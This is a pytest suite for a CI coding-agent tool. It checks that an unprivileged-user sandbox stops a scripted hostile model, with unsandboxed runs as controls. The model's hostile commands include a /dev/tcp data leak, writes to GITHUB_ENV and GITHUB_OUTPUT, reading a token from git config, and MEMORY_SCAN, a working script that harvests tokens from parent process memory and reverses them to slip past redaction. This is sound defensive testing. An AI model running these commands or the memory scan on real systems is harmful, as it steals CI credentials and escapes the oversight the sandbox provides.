"""Issue 16, point 1 where bubblewrap cannot start (a Docker action's container): user mode
confines each command as a dedicated unprivileged user (security/user_mode.py, user_jail.py).

The attacks of test_sandbox.py run again with `CODEGEN_SANDBOX=user`, each beside its positive
control (`CODEGEN_SANDBOX=off`, the documented opt-out) and, where the defence is a permission
bit codegen-ci takes away for the run, beside the same attack made by the sandbox user with no
codegen-ci in between. The sandbox user is a bare uid (no account needed); the tool must be root,
as it is in the action's container.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import stat
import subprocess
from pathlib import Path

import pytest

from action_env import API_KEY, REPOSITORY, TOKEN, ActionWorld
from codegen_ci.testing.github_double import GitHubDouble
from codegen_ci.testing.scripted_model import ScriptedModelServer
from codegen_ci.testing.scripted_steps import Reply, call
from sample_repo import FIX, VERSION_FILE, SampleRepo, fixing_script
from sandbox_attacks import PROC_SCAN, launch, results, write_attempts

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="user mode needs the tool to be root")

UID = 64123
USER = {"CODEGEN_SANDBOX_USER": f"{UID}:{UID}"}
GATE = "grep -q 'minor + 1, 0)' src/semver/version.py"  # the test command: runs as the user
CHECKS = "id -u; grep -E '^(NoNewPrivs|CapEff):' /proc/self/status"


def as_user(command: str) -> subprocess.CompletedProcess[str]:
    """The sandbox user's own attempt, codegen-ci nowhere involved."""
    return subprocess.run(["setpriv", f"--reuid={UID}", f"--regid={UID}", "--clear-groups",
                           "/bin/sh", "-c", command], capture_output=True, text=True,
                          check=False)  # fmt: skip


def tcp(port: int) -> str:
    return f"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}' && echo CONNECTED"


@pytest.fixture
def reachable(sample_repo: SampleRepo) -> SampleRepo:
    """Another uid may enter the test's directories (pytest makes them 0700), so what keeps
    the sandbox user out below is codegen-ci's doing, not the test's temp directory."""
    for folder in [sample_repo.tmp, *sample_repo.tmp.parents]:
        if folder == Path("/"):
            break
        folder.chmod(stat.S_IMODE(folder.stat().st_mode) | stat.S_IXOTH)
    return sample_repo


def runner_files(tmp: Path) -> tuple[Path, dict[str, str]]:
    """A GITHUB_ENV in a file-command directory anyone may write (the worst case)."""
    github_env = tmp / "runner" / "github_env"
    github_env.parent.mkdir(exist_ok=True)
    github_env.touch()
    github_env.parent.chmod(0o777)
    github_env.chmod(0o666)
    return github_env, {"GITHUB_ENV": str(github_env), "HOME": str(tmp / "home"),
                        "PATH": f"{tmp / 'bin'}:{os.environ['PATH']}"}  # fmt: skip


@pytest.mark.parametrize("sandbox", ["user", "off"])
def test_run_command_runs_as_the_sandbox_user_and_reaches_nothing(
    reachable: SampleRepo, model_server: ScriptedModelServer, sandbox: str,
    listener: tuple[int, list[bytes]],
) -> None:  # fmt: skip
    repo, (port, received) = reachable, listener
    writes, targets = write_attempts(repo, repo.tmp)
    github_env, extra = runner_files(repo.tmp)
    assert targets[0] == github_env
    # control: the sandbox user alone can write there (the directory is open to anyone)
    assert as_user(f"echo probe >> {shlex.quote(str(github_env))}").returncode == 0
    repo.tmp.chmod(0o755)  # the run's output directory (out-*) can be found...
    peek = f'for d in {repo.tmp}/out-*; do ls "$d" >/dev/null && echo LISTED-OUT; done'
    hostile = f"{CHECKS}; {PROC_SCAN}; {writes}; {tcp(port)}; {peek}"
    # the tool writes the file (as root); the user's next command can still edit it
    touch = f"echo '# touched' >> {VERSION_FILE} && echo EDITED"
    model_server.add(Reply(tool_calls=[call("run_command", command=hostile), FIX,
                                       call("run_command", command=touch)]),
                     Reply("ok"))  # fmt: skip
    spec = repo.write_spec(validation={"test": [GATE]})
    proc = launch(repo, model_server, spec, sandbox=sandbox, extra={**USER, **extra})
    assert proc.returncode == 0, proc.stdout + proc.stderr
    seen = results(model_server)
    assert "EDITED" in seen
    if sandbox == "off":  # control: the launching shell, every target and the network
        assert re.search(r"found=[1-9]", seen) and "CONNECTED" in seen and received
        assert all(f"WROTE-{i}" in seen for i in range(len(targets))) and "LISTED-OUT" in seen
        return
    assert f"{UID}\n" in seen and "NoNewPrivs:\t1" in seen and "CapEff:\t0000000000000000" in seen
    assert "found=0" in seen and "WROTE" not in seen and "CONNECTED" not in seen
    assert not received and all(b"pwned" not in p.read_bytes() for p in targets)
    assert stat.S_IMODE(github_env.parent.stat().st_mode) == 0o777  # given back
    # ...but not read during the run; afterwards it is as readable as it was made
    [out_dir] = repo.tmp.glob("out-*")
    assert "LISTED-OUT" not in seen and as_user(f"ls {out_dir}").returncode == 0
    report = json.loads((out_dir / "report.json").read_text())
    assert report["sandbox"] == "user"
    assert "# touched" in repo.git("show", f"{report['branch']}:{VERSION_FILE}")


@pytest.mark.parametrize(("network", "reached"), [([], False), (["run_command"], True)])
def test_user_mode_has_network_only_when_the_spec_allows_it(
    reachable: SampleRepo, model_server: ScriptedModelServer,
    listener: tuple[int, list[bytes]], network: list[str], reached: bool,
) -> None:  # fmt: skip
    port, received = listener
    model_server.add(Reply(tool_calls=[call("run_command", command=tcp(port)), FIX]), Reply("ok"))
    spec = reachable.write_spec(validation={"test": [GATE], "network": network})
    proc = launch(reachable, model_server, spec, sandbox="user", extra=USER)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert ("CONNECTED" in results(model_server)) is reached
    assert bool(received) is reached


def test_a_test_command_runs_as_the_sandbox_user_too(
    reachable: SampleRepo, model_server: ScriptedModelServer,
    listener: tuple[int, list[bytes]],
) -> None:  # fmt: skip
    repo, (port, received) = reachable, listener
    writes, targets = write_attempts(repo, repo.tmp)
    _, extra = runner_files(repo.tmp)
    hostile = f"{CHECKS}; {PROC_SCAN}; {writes}; {tcp(port)}; exit 1"
    model_server.add(Reply("Nothing to do."))
    spec = repo.write_spec(validation={"test": [hostile]}, limits={"max_iterations": 1})
    proc = launch(repo, model_server, spec, sandbox="user", extra={**USER, **extra})
    assert proc.returncode == 1, proc.stdout + proc.stderr
    [out_dir] = repo.tmp.glob("out-*")
    logs = [*(out_dir / "logs").glob("*test*.log"), *(out_dir / "baseline").glob("logs/*.log")]
    assert len(logs) >= 2, logs  # the pre-flight (the base commit's answer) and round 1
    text = "".join(log.read_text() for log in logs)
    assert text.count("found=0") == len(logs) and text.count(f"{UID}\n") == len(logs)
    assert "WROTE" not in text and "CONNECTED" not in text and not received
    assert all(b"pwned" not in p.read_bytes() for p in targets)


@pytest.mark.parametrize("sandbox", ["user", "off"])
def test_a_token_in_the_repository_config_is_unreadable_for_the_run(
    reachable: SampleRepo, model_server: ScriptedModelServer, sandbox: str
) -> None:
    repo = reachable
    token = f"hdr{os.urandom(8).hex()}"
    repo.git("config", "http.https://github.com/.extraheader", f"AUTHORIZATION: bearer {token}")
    config = repo.path / ".git" / "config"
    assert as_user(f"cat {config}").stdout.count(token) == 1  # control: readable as it is
    read = f"rev < {config}"
    model_server.add(Reply(tool_calls=[call("run_command", command=read), FIX]), Reply("ok"))
    proc = launch(repo, model_server, repo.write_spec(validation={"test": [GATE]}),
                  sandbox=sandbox, extra=USER)  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    seen = results(model_server)
    assert (token[::-1] in seen) is (sandbox == "off")
    if sandbox == "user":
        assert "Permission denied" in seen
    assert stat.S_IMODE(config.stat().st_mode) == 0o644  # given back after the run


def test_git_inside_commands_works_in_user_mode(
    reachable: SampleRepo, model_server: ScriptedModelServer
) -> None:
    """Without credentials in its config, the repository stays usable for the user's git."""
    status = "git status --short && git log --oneline -1"
    model_server.add(Reply(tool_calls=[FIX, call("run_command", command=status)]), Reply("ok"))
    proc = launch(reachable, model_server, reachable.write_spec(validation={"test": [GATE]}),
                  sandbox="user", extra=USER)  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    seen = results(model_server)
    assert f" M {VERSION_FILE}" in seen and "initial" in seen, seen


def test_auto_mode_falls_back_to_the_sandbox_user_when_bwrap_cannot_start(
    reachable: SampleRepo, model_server: ScriptedModelServer, tmp_path: Path
) -> None:
    broken = tmp_path / "bwrap"
    broken.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\n"
                      "exit 1\n")  # fmt: skip
    broken.chmod(0o755)
    spec = reachable.write_spec(validation={"test": [GATE]})
    model_server.add(Reply(tool_calls=[FIX]), Reply("ok"))
    proc = launch(reachable, model_server, spec, extra={**USER, "CODEGEN_BWRAP": str(broken)})
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "No permissions to create new namespace" in proc.stderr
    assert f"unprivileged user {UID}:{UID}" in proc.stderr
    reports = [json.loads(p.read_text()) for p in reachable.tmp.glob("out-*/report.json")]
    assert [r["sandbox"] for r in reports] == ["user"]

    # `bwrap` alone does not fall back; a missing user fails closed, naming both problems
    for extra in ({**USER, "CODEGEN_SANDBOX": "bwrap"}, {"CODEGEN_SANDBOX_USER": "no-such-user"}):
        proc = launch(reachable, model_server, spec, extra={**extra, "CODEGEN_BWRAP": str(broken)})
        assert proc.returncode == 3, proc.stdout + proc.stderr
        assert "No permissions to create new namespace" in proc.stderr
        assert "Traceback" not in proc.stderr
    assert "'no-such-user' does not exist" in proc.stderr

    # a sandbox user who owns the repository could undo every permission: refused
    os.chown(reachable.path / ".git", UID, UID)
    proc = launch(reachable, model_server, spec, sandbox="user", extra=USER)
    assert proc.returncode == 3 and f"({UID}:{UID}) owns" in proc.stderr, proc.stderr
    os.chown(reachable.path / ".git", 0, 0)

    proc = launch(reachable, model_server, spec, sandbox="sometimes")
    assert proc.returncode == 2 and "unknown value 'sometimes'" in proc.stderr, proc.stderr


RUNNER_UID = 1001  # the hosted runner's user: it owns what the runner mounts into the container


class DockerActionWorld(ActionWorld):
    """The Docker action as GitHub runs it: the tool is root in the container, and the
    workspace, RUNNER_TEMP and the file-command files belong to the runner's user."""

    def workspace(self) -> Path:
        path = super().workspace()
        for item in [path, *path.rglob("*")]:
            os.lchown(item, RUNNER_UID, RUNNER_UID)
        n = self.runs
        for item in (self.tmp / f"output-{n}", self.tmp / f"summary-{n}.md"):
            item.touch()
            os.chown(item, RUNNER_UID, RUNNER_UID)
        (self.tmp / "runner-temp").mkdir(exist_ok=True)
        os.chown(self.tmp / "runner-temp", RUNNER_UID, RUNNER_UID)
        return path


# Reads the memory of its ancestors (the jail's parent, the reaper, the tool) and prints what
# looks like the action's tokens, reversed (no redactor recognises that).
MEMORY_SCAN = r"""/usr/bin/python3 - <<'EOF'
import re
pattern, pid = re.compile(rb"sk-test-action-key-[0-9]+|ghs_[A-Za-z0-9]+"), "self"
while pid != "0":
    pid = re.search(r"PPid:\s+(\d+)", open(f"/proc/{pid}/status").read()).group(1)
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as exc:
        print("denied", pid, exc.strerror)
        continue
    for line in maps:
        span, perms = line.split()[:2]
        start, end = (int(x, 16) for x in span.split("-"))
        if perms.startswith("rw") and end - start < 1 << 28:
            try:
                mem.seek(start)
                found = set(pattern.findall(mem.read(end - start)))
            except (OSError, ValueError, OverflowError):
                continue
            print(*(f.decode()[::-1] for f in found))
EOF"""


@pytest.mark.parametrize("sandbox", ["auto", "off"])
def test_the_docker_action_confines_commands_as_the_sandbox_user(
    reachable: SampleRepo, model_server: ScriptedModelServer, sandbox: str, tmp_path: Path
) -> None:
    """`codegen-ci action` in a container where bubblewrap cannot start (Docker's default
    seccomp profile, played by a bwrap that fails like it): user mode, and the action still
    opens its pull request. Control: with `sandbox: off` the model's command reads the tokens
    from the tool's memory and writes the step's GITHUB_OUTPUT file by its real path."""
    if not Path("/usr/bin/python3").is_file():
        pytest.skip("the memory scan needs the system's python3 (any user may run it)")
    broken = tmp_path / "bwrap"
    broken.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\n"
                      "exit 1\n")  # fmt: skip
    broken.chmod(0o755)
    steal = f"{MEMORY_SCAN}\necho pwned=1 >> {reachable.tmp / 'output-1'}"
    with GitHubDouble(REPOSITORY) as github:
        github.add_user("alice", role="write")
        github.add_issue("Reset patch in bump_minor", "bump_minor must reset the patch", "rob")
        world = DockerActionWorld(reachable, github, model_server)
        world.inputs = {"test-command": GATE, "openai-base-url": model_server.base_url,
                        "model": "scripted-model", "sandbox": sandbox}  # fmt: skip
        model_server.add(Reply(tool_calls=[call("run_command", command=steal)]),
                         *fixing_script())  # fmt: skip
        result = world.run("issues", world.issue_labeled(1),
                           env={**USER, "CODEGEN_BWRAP": str(broken)})  # fmt: skip
        assert result.code == 0, result.log
        assert result.outputs["status"] == "success" and len(github.pulls()) == 1
    seen = results(model_server)
    stolen = [secret for secret in (TOKEN, API_KEY) if secret[::-1] in seen]
    if sandbox == "off":  # control
        assert stolen == [TOKEN, API_KEY] and result.outputs.get("pwned") == "1", seen
        return
    assert f"unprivileged user {UID}:{UID}" in result.stderr
    assert "denied" in seen and stolen == [] and "pwned" not in result.outputs, seen


def test_permission_holds_of_concurrent_runs_give_the_bits_back_after_the_last(
    tmp_path: Path,
) -> None:
    """`codegen-ci batch` runs specs side by side: one run ending must not expose what another
    still hides."""
    from codegen_ci.security.user_access import PermissionHold, SandboxUser

    place = tmp_path / "file-commands"
    place.mkdir(mode=0o755)
    place.chmod(0o755)
    user = SandboxUser(UID, UID, "sandbox")
    first, second = PermissionHold(user), PermissionHold(user)
    first.hide(place)
    second.hide(place, keep_search=True)
    assert stat.S_IMODE(place.stat().st_mode) == 0o750
    first.restore()
    assert stat.S_IMODE(place.stat().st_mode) == 0o750  # the second run still holds it
    second.restore()
    assert stat.S_IMODE(place.stat().st_mode) == 0o755
